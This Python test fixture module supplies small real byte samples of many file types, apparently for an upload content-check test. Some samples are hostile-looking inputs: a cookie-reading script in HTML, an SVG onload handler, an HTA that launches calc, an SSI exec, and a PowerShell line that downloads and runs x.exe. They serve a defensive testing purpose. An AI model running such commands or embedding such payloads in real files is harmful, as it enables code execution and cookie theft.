"""Real bytes of each kind of file, so the content check sees what a user
would send (a handful of bytes with the right magic is what libmagic reads)."""

import gzip
import io
import zipfile

PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
    b"\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00\x00\x00\x00IEND\xaeB`\x82"
)
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"
PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
TEXT = b"2026-12-01 10:00 printer offline\n2026-12-01 10:05 retried\n"
CSV = b"date,amount\n2026-12-01,3.50\n2026-12-02,4.00\n"
EML = b"From: a@example.com\nTo: b@example.com\nSubject: Original\nMessage-ID: <x@example.com>\n\nThe body.\n"
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>'
XHTML = b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body><script>x()</script></body></html>'
HTA = b'<HTA:APPLICATION ID="app"><script language="VBScript">CreateObject("WScript.Shell").Run "calc"</script>'
SHTML = b'<!--#exec cmd="ls" --><p>hello</p>'
WSF = b'<job><script language="VBScript">MsgBox "hi"</script></job>'
PS1 = b"Invoke-WebRequest https://example.com/x -OutFile x.exe; Start-Process x.exe\n"
# A DOS/PE header (what every .exe starts with).
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + b"\x40\x00\x00\x00PE\x00\x00"
# A Windows shell link header (HeaderSize 0x4C and the LinkCLSID).
LNK = b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F" + b"\x00" * 56
SVGZ = gzip.compress(SVG)
BINARY = bytes(range(256)) * 4


def _zip(entries: list[tuple[str, bytes]]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries:
            archive.writestr(name, data)
    return buffer.getvalue()


ZIP = _zip([("logs/app.log", TEXT)])
JAR = _zip([("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\nMain-Class: Evil\n"), ("Evil.class", b"\xca\xfe")])
# The first entries in the order Word and Excel write them.
DOCX = _zip(
    [("[Content_Types].xml", b"<Types/>" * 20), ("_rels/.rels", b"<Relationships/>"), ("word/document.xml", b"<w/>")]
)
XLSX = _zip(
    [("[Content_Types].xml", b"<Types/>" * 20), ("_rels/.rels", b"<Relationships/>"), ("xl/workbook.xml", b"<x/>")]
)
